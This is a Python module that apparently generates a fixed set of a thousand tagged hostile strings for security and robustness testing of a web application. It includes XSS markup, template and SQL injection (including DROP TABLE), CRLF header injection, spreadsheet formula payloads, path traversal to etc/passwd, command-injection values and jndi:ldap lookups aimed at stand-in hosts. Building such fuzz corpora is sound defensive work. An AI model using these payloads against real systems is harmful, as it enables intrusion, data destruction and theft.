"""A thousand strings that somebody could type to do harm, made from a small grammar, the same each time.

Each has a mark of its own (``hx0042q``), by which it is found wherever it comes out again.
"""

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from itertools import cycle, islice, product, zip_longest
from typing import Final

COUNT: Final = 1_000
#: What a parser of HTML would report if markup got through; no page of ours has an element of that name.
ELEMENT: Final = "x-hostile"
#: Stands for it in the grammar.
MARK: Final = "¤"
#: Finds every mark.
MARKS: Final = re.compile(r"hx\d{4}q")
_CALL: Final = "alert('¤')"


@dataclass(frozen=True, slots=True)
class Hostile:
    kind: str
    text: str
    mark: str

    @property
    def id(self) -> str:
        return f"{self.kind}-{self.mark}"


def _markup() -> Iterable[str]:
    outs = ("", '">', "'>", "-->", "</title>", "</textarea>", "]]>", "</script>", '\\">')
    tags = (
        f"<script>{_CALL}</script>",
        f"<img src=x onerror={_CALL}>",
        f"<svg/onload={_CALL}>",
        f"<{ELEMENT} title=¤>",
        f"<iframe srcdoc='<script>{_CALL}</script>'>",
        f'<a href="javascript:{_CALL}">¤</a>',
        "<style>¤{}</style>",
        "<base href=//¤.example>",
        "<meta http-equiv=refresh content='0;url=//¤.example'>",
        "<form action=//¤.example><input name=¤>",
        "<!--¤",
        "<object data='javascript:¤'>",
        "<embed src=//¤.example>",
        "<link rel=stylesheet href=//¤.example>",
        "<math><mtext><script>¤",
        "<details open ontoggle=¤()>",
        "<input autofocus onfocus=¤()>",
        "<button formaction='javascript:¤'>",
        "<template><script>¤</script></template>",
        "<?php ¤ ?>",
        f"<ScRiPt\n>{_CALL}</sCrIpT\t>",
    )
    yield from (out + tag for tag, out in product(tags, outs))
    yield from (f"¤{quote} onfocus={quote}{_CALL}{quote} autofocus x={quote}" for quote in "\"'`")
    yield from (
        "&lt;script&gt;¤",
        "&#60;script&#62;¤",
        "＜script＞¤",
        "\\u003cscript\\u003e¤",
        "%3Cscript%3E¤",
    )


def _templates() -> Iterable[str]:
    marks = ("code", "link", "url", "acknowledge", "stop", "unsubscribe", "reset", "join", "¤")
    opened = (
        "{{ ¤ }}",
        "{{ settings.SECRET_KEY }}¤",
        "{{ user.password }}¤",
        "{{ 7|add:7 }}¤",
        "{{¤",
        "¤}}",
        "{% debug %}¤",
        "{% load static %}¤",
        "{% include '¤' %}",
        "{% extends '¤' %}",
        "{%¤",
        "{# ¤ #}",
        "{% verbatim %}¤",
        "{0.__class__}¤",
        "{user.password}¤",
        "%(message)s¤",
        "%s%n¤",
        "%¤",
        "${7*7}¤",
        "#{7*7}¤",
        "<%= 7*7 %>¤",
        "$(id)¤",
        "`id`¤",
    )
    yield from (f"⟦{mark}⟧¤" for mark in marks)
    yield from opened
    yield from (f"⟦{text}⟧" for text in opened)
    yield from ("⟦⟦¤⟧⟧", "⟦¤", "¤⟧", "⟦⟧¤", "⟦acknowledge ⟧¤", "⟦a⟦acknowledge⟧cknowledge⟧¤")


def _headers() -> Iterable[str]:
    ends = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "%0d%0a", "\\r\\n", "=0D=0A")
    lines = (
        "Bcc: ¤@evil.example",
        "Set-Cookie: ¤=1",
        "Content-Type: text/html",
        "Location: //¤.example",
        "X-¤: 1",
        "DATA",
    )
    yield from (f"¤{end}{line}" for line, end in product(lines, ends))
    yield from (f"¤{end}{end}<html>" for end in ends)
    yield from (
        "¤\r\n.\r\nQUIT",
        "\r\n¤",
        "¤\r\n",
        "¤,b@evil.example",
        '"¤" <b@evil.example>',
        "=?utf-8?q?¤?=",
    )
    yield from (
        "=?utf-8?b?QmNjOiBhQGIuYw==?=¤",
        "¤>\r\nRCPT TO:<b@evil.example",
        "¤@evil.example\r\nBcc: b@c.example",
    )


def _formulas() -> Iterable[str]:
    starts = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        '"=',
        "';=",
        "\ufeff=",
        "\u200b=",
    )
    calls = ("cmd|' /C ¤'!A0", 'HYPERLINK("http://¤.example","x")', "1+1&¤", "SUM(A1:A9)*¤")
    yield from (f"{start}{call}" for call, start in product(calls, starts))


def _invisible() -> Iterable[str]:
    signs = (
        "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c",
        "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f", "\u3164",
        "\U000e0041",
        "\u0301" * 60, "\ufe0f", "\u2800", "\u00a0",
    )  # fmt: skip
    yield from (place.replace("~", sign) for place, sign in product(("~¤", "¤~a", "¤~", "~"), signs))


def _controls() -> Iterable[str]:
    signs = (
        "\0",
        "\x01",
        "\x07",
        "\x08",
        "\x0e",
        "\x1a",
        "\x1f",
        "\x7f",
        "\x80",
        "\x9f",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
    )
    yield from (place.replace("~", sign) for place, sign in product(("~¤", "¤~b", "¤~", "~"), signs))
    yield from ("\0" * 50, "%00¤", "\\0¤", "\\u0000¤", "¤\0.png", "¤\t\tb", "\n", "\r\n\r\n", " ", "\t¤\t")


def _surrogates() -> Iterable[str]:
    yield from (
        "\ud800¤",
        "¤\udc00",
        "¤\udfff\ud800",
        "\udbff",
        "¤\udcff",
        "\udc80¤\udcff",
        "\ud83d",
        "¤\ud83dx\ude00",
    )


def _sql() -> Iterable[str]:
    yield from (
        "' OR '¤'='¤", "¤'; DROP TABLE accounts_user; --", "¤\" OR 1=1 --", "¤') UNION SELECT 1 --",
        "¤\\'", "¤\\",
        "$$¤$$", "E'\\x27¤", "¤%", "%¤%", "_¤_", "¤'||pg_sleep(9)||'", "¤/*", "¤*/", "¤;", "¤::int",
        "¤ -- ", "'¤",
        "''¤''", "(¤", "¤)", "¤&|!", "¤ & !:*", "<->¤", "¤:*", "{¤}", "¤,",
        '{"¤":', "[¤]", "null", "NULL", "$1¤",
        "?¤", ":¤", "%(id)s¤", "\\N¤", "\\.¤",
    )  # fmt: skip


def _long() -> Iterable[str]:
    yield from ("¤" + "a" * 300, "¤" * 40, "¤" + "é" * 3_000, "¤" + " a" * 5_000, "¤" + "\U0001f600" * 2_000)
    yield from (
        "¤" + "<" * 5_000,
        "¤" + "a" * 100_000,
        "¤" + "(" * 2_000,
        "¤" + "\n" * 2_000,
        "¤" + "." * 4_096,
    )
    yield from ("¤" + "a" * size for size in (64, 127, 150, 151, 254, 255, 256, 1_024, 2_048, 2_049))


def _urls() -> Iterable[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
        "data:text/html,",
        "vbscript:", "file:///", "blob:", "about:", "view-source:", "//", "\\\\", "/\\", "https:",
        "http:///", "ftp://",
        "https://[::", "https://[¤", "https://a:b@", "https://a:99999/", "https://a:-1/", "https://xn--/",
        "https://\u0130.example/",
        "gopher://", "jar:", "mailto:", "tel:", "ldap://", "http://127.0.0.1/", "http://0x7f.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://①②⑦.⓪.⓪.①/", "https://user@host@", "https://a.example/?\n", "https://a.example/\r\n",
    )  # fmt: skip
    yield from (f"{scheme}{rest}" for scheme, rest in product(schemes, (_CALL, "¤", "¤.example/x?q=1#f")))


def _calendars() -> Iterable[str]:
    lines = (
        "ATTENDEE:mailto:¤@evil.example",
        "END:VEVENT",
        "BEGIN:VALARM",
        "URL:https://¤.example",
        "METHOD:CANCEL",
    )
    yield from (
        f"¤{end}{line}"
        for line, end in product(lines, ("\r\n", "\n", "\r", "\\n", "\r\n ", "\u2028", "\x0b"))
    )
    yield from (
        "¤;CN=x:y",
        '¤";CN="b',
        "¤:¤",
        "¤,¤",
        "¤\\;\\,\\n\\",
        "^n¤^'",
        "¤" + "é" * 80,
        "¤" + "a" * 74 + "é",
    )


def _logs() -> Iterable[str]:
    ends = ("\n", "\r\n", "\r", "\\n", "\x85", "\u2028", "\x0b", "\x1e")
    lines = ('{"event": "¤", "level": "critical"}', "ERROR ¤", "Traceback (most recent call last):")
    yield from (f"¤{end}{line}" for line, end in product(lines, ends))
    yield from (
        '¤", "level": "x',
        "¤'}",
        '"}¤',
        '¤\\", "a": "',
        "¤\\",
        "[red]¤[/red]",
        "${jndi:ldap://¤.example/a}",
    )


def _terminals() -> Iterable[str]:
    opened = ("\x1b[", "\x9b", "\x1b]0;", "\x9d", "\x1bP", "\x90", "\x1bc", "\x1b(0", "\x1b[?1049h", "\x1b#8")
    yield from (f"{sign}{rest}" for sign, rest in product(opened, ("2J¤", "31m¤", "¤\x07", "¤\x1b\\")))
    yield from ("¤\b\b\b\b", "¤\rroot#", "\x1b")


def _numbers() -> Iterable[str]:
    yield from (
        "1e999", "NaN", "-inf", "Infinity", "-0", "0x10", "1_000", "٣", "１２", "²", "½", "Ⅷ", "9" * 30,
        "-1", "+1",
        "9" * 5_000, "2147483648", "9223372036854775808", "-9223372036854775809", "1.5", "1,5", " 1",
        "1\n", "0", "00",
        "0000-00-00", "0001-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.999999-14:00",
        "2026-02-30",
        "10000-01-01", "-0001-01-01", "2026-01-01T25:00", "2026-W01-1", "24:00", "23:59:60", "-1 00:00",
        "P1Y",
        "2026-01-01T00:00:00+99:99", "2026-03-29T02:30:00 Europe/Paris", "1" + "0" * 400, "1e5", "--1",
        "∞", "0.1e-400",
        "true", "undefined", "* * * * *", "*/0 * * * *", "0 0 31 2 *", "FREQ=SECONDLY",
        "FREQ=DAILY;COUNT=0", "FREQ=DAILY;INTERVAL=0",
        "FREQ=YEARLY;BYDAY=400MO", "FREQ=DAILY;UNTIL=99991231T235959Z",
        "RRULE:FREQ=DAILY\nRRULE:FREQ=DAILY", "1 day", "P99999999D",
        "00000000-0000-0000-0000-000000000000", "{33cbb18c-3e9d-4acc-9667-2fbe7bf29137}",
        "urn:uuid:33cbb18c-3e9d-4acc-9667-2fbe7bf29137",
        "33CBB18C3E9D4ACC96672FBE7BF29137", "+33612345678", "+", "00336", "tel:+33612345678;ext=1",
        "+999999999999999", "en-US-x-¤", "None", "[]", "{}", "\u0661\u0662:\u0663\u0664",
    )  # fmt: skip


def _paths() -> Iterable[str]:
    ups = ("../", "..\\", "%2e%2e%2f", "..%2f", "....//", "%252e%252e/", "..;/", "%c0%ae%c0%ae/", "/")
    yield from (f"{up * 4}{file}" for up, file in product(ups, ("etc/passwd", "¤", "config/settings.py")))
    yield from ("¤/.", "¤/..", ".", "..", "~", "~root", "CON", "¤\\¤", "¤|id", "¤;id", "¤ & id", "¤\x00/../")
    yield from (
        "Europe/../../etc/passwd",
        "/etc/localtime",
        "localtime",
        "posix/Europe/Paris",
        "Europe/Paris\n",
        "europe/paris",
    )


def _scripts() -> Iterable[str]:
    yield from (
        "İ¤", "ı¤", "ß¤", "ﬀ¤", "ſ¤", "K¤", "Å¤", "ﷺ¤", "𝕏¤", "ⓐ¤", "а¤", "e\u0301¤", "é¤",
        "\U0001f468\u200d\U0001f469¤",
        "\U0001f1eb\U0001f1f7¤", "ทดสอบ¤", "שלום¤", "مرحبا¤", "नमस्ते¤", "漢字¤", "한글¤", "ꙮ¤", "␀¤",
        "\u1e9e¤", "ǅ¤", "ﬁ¤",
    )  # fmt: skip


KINDS: Final = {
    "markup": _markup,
    "template": _templates,
    "header": _headers,
    "formula": _formulas,
    "invisible": _invisible,
    "control": _controls,
    "surrogate": _surrogates,
    "sql": _sql,
    "long": _long,
    "url": _urls,
    "calendar": _calendars,
    "log": _logs,
    "terminal": _terminals,
    "number": _numbers,
    "path": _paths,
    "script": _scripts,
}


def _all() -> Iterator[Hostile]:
    """One of each kind in turn, so that any few in a row are of different kinds."""
    columns = [[(kind, text) for text in texts()] for kind, texts in KINDS.items()]
    texts = [each for row in zip_longest(*columns) for each in row if each]
    for number, (kind, text) in enumerate(texts):
        mark = f"hx{number:04}q"
        yield Hostile(kind, text.replace(MARK, mark), mark)


ALL: Final = tuple(islice(_all(), COUNT))
BY_KIND: Final = {kind: tuple(each for each in ALL if each.kind == kind) for kind in KINDS}


class Supply:
    """Hands out the strings, one of each kind in turn, until every one was used; and then from the first."""

    def __init__(self) -> None:
        self._of = {kind: cycle(strings) for kind, strings in BY_KIND.items()}
        self._kinds = cycle(KINDS)

    def one_of_each(self) -> Iterator[Hostile]:
        return self.some(len(KINDS))

    def some(self, count: int) -> Iterator[Hostile]:
        """So many, each of another kind than the one before."""
        return islice(self.in_turn(), count)

    def in_turn(self) -> Iterator[Hostile]:
        return (next(self._of[kind]) for kind in self._kinds)
